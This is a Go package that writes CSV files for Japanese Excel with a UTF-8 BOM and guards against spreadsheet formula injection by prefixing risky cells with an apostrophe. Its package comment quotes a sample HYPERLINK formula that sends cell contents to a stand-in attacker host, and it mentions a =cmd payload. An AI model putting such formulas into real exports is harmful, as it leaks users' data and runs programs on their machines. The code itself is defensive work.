// Package excelcsv writes CSV that a spreadsheet (Japanese Excel,
// LibreOffice) opens as text, safely.
//
// Decisions:
//   - The file starts with a UTF-8 byte order mark: without one, Japanese
//     Excel reads a CSV as Shift_JIS (CP932) and garbles every Japanese
//     name. Lines end in LF, which Excel reads as well as CRLF.
//   - A cell that begins with = + - @, a tab or a CR is a formula to a
//     spreadsheet: =HYPERLINK("http://evil.example/?"&A1) sends its
//     neighbours away, =cmd|… runs a program. Such a cell is written with
//     a leading apostrophe ('=HYPERLINK(…)), which the spreadsheet shows as
//     the text it is (the OWASP advice). The export is for people; a
//     system that needs the exact bytes reads the JSON export.
package excelcsv

import (
	"encoding/csv"
	"io"
)

// BOM is the UTF-8 byte order mark every file starts with.
const BOM = "\ufeff"

// Writer writes records like encoding/csv, each cell made safe (Cell),
// after the BOM.
type Writer struct {
	w       io.Writer
	cw      *csv.Writer
	started bool
	err     error
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: w, cw: csv.NewWriter(w)} }

// Write writes one record.
func (w *Writer) Write(record []string) error {
	if w.err != nil {
		return w.err
	}
	if !w.started {
		w.started = true
		if _, w.err = io.WriteString(w.w, BOM); w.err != nil {
			return w.err
		}
	}
	safe := make([]string, len(record))
	for i, c := range record {
		safe[i] = Cell(c)
	}
	w.err = w.cw.Write(safe)
	return w.err
}

// Flush writes any buffered data; an empty export is still a file with a
// BOM.
func (w *Writer) Flush() error {
	if w.err == nil && !w.started {
		w.started = true
		_, w.err = io.WriteString(w.w, BOM)
	}
	w.cw.Flush()
	if w.err != nil {
		return w.err
	}
	return w.cw.Error()
}

// Cell is c as a spreadsheet shows it as text: prefixed with an
// apostrophe when it begins with a character that starts a formula.
func Cell(c string) string {
	if c == "" {
		return c
	}
	switch c[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + c
	}
	return c
}
